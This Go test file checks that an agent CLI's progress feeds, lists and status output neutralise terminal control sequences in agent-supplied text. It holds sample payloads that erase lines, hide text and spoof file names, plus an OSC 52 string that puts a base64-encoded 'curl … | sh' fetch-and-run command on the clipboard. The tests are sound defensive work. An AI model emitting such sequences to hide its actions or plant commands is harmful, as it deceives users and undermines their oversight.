package main

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/autarch-dev/autarch/agent/workflow"
	"github.com/autarch-dev/autarch/agent/workflow/store"
	"github.com/autarch-dev/autarch/editor"
)

// TestProgressShowsNoControls (redteam s12 03): s11 04 put the terminal's
// approvals, questions and diagnostics through one writer that spells out
// what a terminal acts on; the progress feed of `autarch run` and
// `autarch job` (printEvent, printJobEvent) writes to stderr beside it,
// raw. What it prints is the agent's: a tool call's reason, a failed
// call's text (an error naming one of its files), its messages, review
// comments, pulse summaries. So a reason could erase the line above (the
// previous, dangerous call), and a failed call's text set the user's
// clipboard (OSC 52) or hide what follows. Both feeds now write through
// editor.Shown.
func TestProgressShowsNoControls(t *testing.T) {
	const (
		eraseAbove = "\x1b[1A\x1b[2K\rread_file: Read a.go"
		clipboard  = "\x1b]52;c;Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo\a"
		conceal    = "tests pass\x1b[8m"
		reorder    = "ok \u202egnp.exe"
	)
	for _, tc := range []struct {
		name string
		ev   workflow.Event
	}{
		{"tool call reason", workflow.Event{Kind: editor.EventToolCall, Tool: "shell", Reason: eraseAbove}},
		{"failed call's text", workflow.Event{Kind: editor.EventToolResult, Tool: "shell", Failed: true, Text: clipboard}},
		{"message", workflow.Event{Kind: editor.EventMessage, Text: conceal}},
		{"review comment", workflow.Event{Kind: editor.EventReviewComment, Status: "low", Text: "a.go:1 " + reorder}},
		{"in a parallel pulse", workflow.Event{Kind: editor.EventToolCall, PulseID: "pulse-2", Tool: "shell", Reason: eraseAbove}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var wf, job strings.Builder
			printEvent(stdio{out: &wf, err: &wf}, tc.ev)
			printJobEvent(stdio{out: &job, err: &job}, editor.JobEvent{Kind: string(tc.ev.Kind), Tool: tc.ev.Tool, Reason: tc.ev.Reason, Text: tc.ev.Text, Failed: tc.ev.Failed})
			for who, got := range map[string]string{"workflow": wf.String(), "job": job.String()} {
				if i := strings.IndexFunc(got, func(r rune) bool {
					return r == '\x1b' || r == '\r' || r == '\a' || r == '\u202e' || r >= 0x80 && r < 0xa0
				}); i >= 0 {
					t.Errorf("the %s's progress prints %q raw: %q", who, got[i:i+1], got)
				}
			}
		})
	}
}

// TestListsShowNoControls (redteam s12 03): the other lists that print the
// agent's words to the terminal — a revert's plan (pulse titles,
// summaries, file names) and a swarm's feed — spell out control
// characters too. (autarch review and autarch receipt show/verify print
// through editor.Shown the same way; they need a repository to run.)
func TestListsShowNoControls(t *testing.T) {
	const erase = "fix\r\x1b[2Kdocs only"
	var revert, swarm strings.Builder
	printRevertPlan(stdio{out: &revert, err: &revert}, workflow.RevertPlan{Pulse: "pulse-1", Workflow: "w", Branch: "b",
		Pulses: []workflow.RevertPulse{{ID: "pulse-1", Title: erase, Commit: "0123456789ab", Summary: erase, Files: []string{"a\x1b]52;c;eA==\a.go"}}},
		Files:  []string{"a\x1b]52;c;eA==\a.go"}})
	for _, ev := range []editor.SwarmEvent{{Kind: "status", Status: "done", Text: erase}, {Kind: "round", Text: erase},
		{Kind: "tool_call", Agent: "explorer", Tool: "fs_write", Text: erase}} {
		printSwarmEvent(stdio{out: &swarm, err: &swarm}, ev)
	}
	for who, got := range map[string]string{"revert plan": revert.String(), "swarm feed": swarm.String()} {
		if strings.ContainsAny(got, "\x1b\r\a") {
			t.Errorf("the %s prints control characters raw: %q", who, got)
		}
	}
}

// TestStatusShowsNoControls: `autarch status` prints workflow names and
// tool activity an agent chose through editor.Shown too: an OSC 52
// (clipboard) sequence in a workflow's name reaches the terminal spelled
// out, never raw.
func TestStatusShowsNoControls(t *testing.T) {
	ctx := context.Background()
	dir, p := statusProject(t)
	wf := store.Workflow{ID: "wf-evil", Name: "fix\x1b]52;c;Zm9v\x07-login", Task: "t", Stage: "research", Status: store.WorkflowActive}
	if err := p.Store.CreateWorkflow(ctx, &wf); err != nil {
		t.Fatal(err)
	}
	p.Close()
	var out, errb bytes.Buffer
	if code := runMain(ctx, stdio{in: strings.NewReader(""), out: &out, err: &errb}, []string{"status", "--root", dir}); code != 0 {
		t.Fatalf("exit %d:\n%s%s", code, out.String(), errb.String())
	}
	if strings.ContainsAny(out.String()+errb.String(), "\x1b\x07") {
		t.Fatalf("status printed a raw control character:\n%q", out.String())
	}
	if !strings.Contains(out.String(), "fix") || !strings.Contains(out.String(), "-login") {
		t.Errorf("status lost the name:\n%s", out.String())
	}
}
